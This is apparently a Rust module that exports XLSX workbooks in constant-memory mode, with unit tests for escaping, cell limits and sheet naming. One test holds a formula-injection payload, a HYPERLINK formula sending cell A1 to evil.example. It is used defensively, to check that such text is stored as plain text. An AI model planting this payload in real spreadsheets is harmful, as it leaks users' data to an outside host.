//! XLSX workbooks through `rust_xlsxwriter` in its constant-memory mode: a row is written to the
//! sheet's temporary file as soon as the next one starts, and strings are inline rather than in
//! a shared-strings table (which would have to be held in memory until the end), so a workbook
//! of a million rows needs no more memory than one row. Saving packs the temporary files into the
//! zip.
//!
//! Text cells are written as strings, never as formulas, whatever they start with: XLSX cells
//! carry their type, so formula-like text needs no neutralising here (unlike CSV).

use std::io::Write;

use rust_xlsxwriter::{ColNum, Format, RowNum, Worksheet, XlsxError};

use super::record::Cell;

/// Rows of a sheet in Excel, header included; a longer export continues on another sheet.
const MAX_ROWS: u32 = 1_048_576;
/// Characters of a cell in Excel, counted in UTF-16 units as Excel does.
const MAX_CELL_UTF16: usize = 32_767;

/// A workbook being written: rows go to the current sheet, one at a time.
pub struct Workbook {
    book: rust_xlsxwriter::Workbook,
    sheet_name: String,
    header: Vec<String>,
    bold: Format,
    /// Sheets started so far.
    sheets: u16,
    /// Rows of the current sheet, header included; 0 when no sheet is open.
    rows: u32,
}

impl Workbook {
    /// Starts the workbook; `sheet_name` names the first sheet (later ones get " (2)", " (3)"…).
    pub fn new(sheet_name: &str, header: &[String]) -> Result<Workbook, XlsxError> {
        Ok(Workbook {
            book: rust_xlsxwriter::Workbook::new(),
            sheet_name: sheet_name_safe(sheet_name),
            header: header.to_vec(),
            bold: Format::new().set_bold(),
            sheets: 0,
            rows: 0,
        })
    }

    /// Appends a row to the current sheet, starting a new sheet when Excel's limit is reached.
    pub fn write_row(&mut self, cells: &[Cell]) -> Result<(), XlsxError> {
        if self.rows == 0 || self.rows >= MAX_ROWS {
            self.start_sheet()?;
        }
        let row = self.rows;
        self.rows += 1;
        let sheet = self
            .book
            .worksheet_from_index(usize::from(self.sheets - 1))?;
        write_cells(sheet, row, cells, None)
    }

    fn start_sheet(&mut self) -> Result<(), XlsxError> {
        self.sheets += 1;
        let name = if self.sheets == 1 {
            self.sheet_name.clone()
        } else {
            format!("{} ({})", self.sheet_name, self.sheets)
        };
        let sheet = self.book.add_worksheet_with_constant_memory()?;
        sheet.set_name(name)?;
        // The header row stays in view when scrolling.
        sheet.set_freeze_panes(1, 0)?;
        let header: Vec<Cell> = self.header.iter().cloned().map(Cell::Text).collect();
        write_cells(sheet, 0, &header, Some(&self.bold))?;
        self.rows = 1;
        Ok(())
    }

    /// Saves the workbook into `out` and returns it.
    pub fn finish<W: Write + Send>(mut self, mut out: W) -> Result<W, XlsxError> {
        if self.rows == 0 {
            // No record: the header alone, so the file still says what it would hold.
            self.start_sheet()?;
        }
        self.book.save_to_writer(&mut out)?;
        Ok(out)
    }
}

/// Writes `cells` into row `row` (0-based); empty cells are left out.
fn write_cells(
    sheet: &mut Worksheet,
    row: RowNum,
    cells: &[Cell],
    format: Option<&Format>,
) -> Result<(), XlsxError> {
    for (col, cell) in cells.iter().enumerate() {
        let col = ColNum::try_from(col).map_err(|_| XlsxError::RowColumnLimitError)?;
        let number = match cell {
            Cell::Empty => continue,
            Cell::Text(text) => {
                let text = cell_text(text);
                if text.is_empty() {
                    continue;
                }
                match format {
                    Some(format) => sheet.write_string_with_format(row, col, text, format)?,
                    None => sheet.write_string(row, col, text)?,
                };
                continue;
            }
            Cell::Int(n) => *n as f64,
            Cell::Decimal { value, decimals } => *value as f64 / 10f64.powi(*decimals as i32),
        };
        match format {
            Some(format) => sheet.write_number_with_format(row, col, number, format)?,
            None => sheet.write_number(row, col, number)?,
        };
    }
    Ok(())
}

/// Text as a cell can hold it: the characters XML 1.0 forbids (controls other than tab and line
/// ends, U+FFFE, U+FFFF) dropped, at most the 32,767 UTF-16 units a cell holds. The crate would
/// refuse a longer string, and would write the controls as `_xHHHH_` escapes, which spreadsheet
/// programs turn back into the control characters.
fn cell_text(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut units = 0;
    for c in text.chars() {
        if (c < ' ' && !matches!(c, '\t' | '\n' | '\r')) || c == '\u{fffe}' || c == '\u{ffff}' {
            continue;
        }
        units += c.len_utf16();
        if units > MAX_CELL_UTF16 {
            break;
        }
        out.push(c);
    }
    out
}

/// Excel refuses sheet names with `[]:*?/\`, starting or ending with an apostrophe, or longer
/// than 31 characters (26 here, leaving room for " (2)").
fn sheet_name_safe(name: &str) -> String {
    let cleaned: String = name
        .chars()
        .filter(|c| !matches!(c, '[' | ']' | ':' | '*' | '?' | '/' | '\\'))
        .take(26)
        .collect();
    let cleaned = cleaned.trim_matches('\'');
    if cleaned.trim().is_empty() {
        "Sheet".into()
    } else {
        cleaned.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The parts of a saved workbook, by name.
    fn parts(bytes: Vec<u8>) -> std::collections::BTreeMap<String, String> {
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
        let mut parts = std::collections::BTreeMap::new();
        for i in 0..archive.len() {
            let mut file = archive.by_index(i).unwrap();
            let mut text = String::new();
            std::io::Read::read_to_string(&mut file, &mut text).unwrap();
            parts.insert(file.name().unwrap().into_owned(), text);
        }
        parts
    }

    fn workbook(rows: &[Vec<Cell>]) -> std::collections::BTreeMap<String, String> {
        let mut book =
            Workbook::new("Phiếu khảo sát", &["id".to_string(), "comment".to_string()]).unwrap();
        for row in rows {
            book.write_row(row).unwrap();
        }
        parts(book.finish(Vec::new()).unwrap())
    }

    #[test]
    fn text_is_valid_xml_and_reads_back_unchanged() {
        assert_eq!(cell_text("bell\u{7}\u{0}tab\tline\n"), "belltab\tline\n");
        assert_eq!(cell_text("Xã Tân Thành"), "Xã Tân Thành");
        assert_eq!(
            cell_text(&"ă".repeat(40_000)).chars().count(),
            MAX_CELL_UTF16
        );
        let parts = workbook(&[vec![
            Cell::Int(1),
            Cell::Text("a & b < c > \"d\" 'e' _x0041_".into()),
        ]]);
        let sheet = &parts["xl/worksheets/sheet1.xml"];
        assert!(
            sheet.contains("a &amp; b &lt; c &gt; \"d\" 'e' _x005F_x0041_"),
            "{sheet}"
        );
    }

    #[test]
    fn rows_hold_numbers_as_numbers_and_skip_empty_cells() {
        let parts = workbook(&[vec![
            Cell::Int(5),
            Cell::Empty,
            Cell::Text("Tốt <lắm>".into()),
            Cell::Decimal {
                value: 8475,
                decimals: 2,
            },
            Cell::Decimal {
                value: -150,
                decimals: 2,
            },
        ]]);
        let sheet = &parts["xl/worksheets/sheet1.xml"];
        assert!(
            sheet.contains(
                "<row r=\"2\"><c r=\"A2\"><v>5</v></c>\
                 <c r=\"C2\" t=\"inlineStr\"><is><t>Tốt &lt;lắm&gt;</t></is></c>\
                 <c r=\"D2\"><v>84.75</v></c><c r=\"E2\"><v>-1.5</v></c></row>"
            ),
            "{sheet}"
        );
    }

    #[test]
    fn formula_like_text_is_written_as_text() {
        let parts = workbook(&[vec![
            Cell::Int(1),
            Cell::Text("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Mở\")".into()),
        ]]);
        let sheet = &parts["xl/worksheets/sheet1.xml"];
        assert!(!sheet.contains("<f>"), "{sheet}");
        assert!(sheet.contains(
            "<c r=\"B2\" t=\"inlineStr\"><is><t>=HYPERLINK(\"http://evil.example/?x=\"&amp;A1,\"Mở\")</t></is></c>"
        ));
    }

    #[test]
    fn a_workbook_is_a_zip_with_its_parts() {
        let parts = workbook(&[vec![Cell::Int(1), Cell::Text("Rất tốt".into())]]);
        for part in [
            "[Content_Types].xml",
            "xl/workbook.xml",
            "xl/_rels/workbook.xml.rels",
            "xl/worksheets/sheet1.xml",
            "xl/styles.xml",
            "_rels/.rels",
        ] {
            assert!(parts.contains_key(part), "{part} in {:?}", parts.keys());
        }
        assert!(parts["xl/workbook.xml"].contains("name=\"Phiếu khảo sát\""));
        let sheet = &parts["xl/worksheets/sheet1.xml"];
        assert!(sheet.contains("<c r=\"A2\"><v>1</v></c>"), "{sheet}");
        assert!(sheet.contains("Rất tốt"));
        assert!(
            sheet.contains("state=\"frozen\""),
            "the header stays in view"
        );
    }

    #[test]
    fn an_empty_export_still_has_its_header() {
        let parts = workbook(&[]);
        let sheet = &parts["xl/worksheets/sheet1.xml"];
        assert!(sheet.contains(">comment<"), "{sheet}");
    }
}
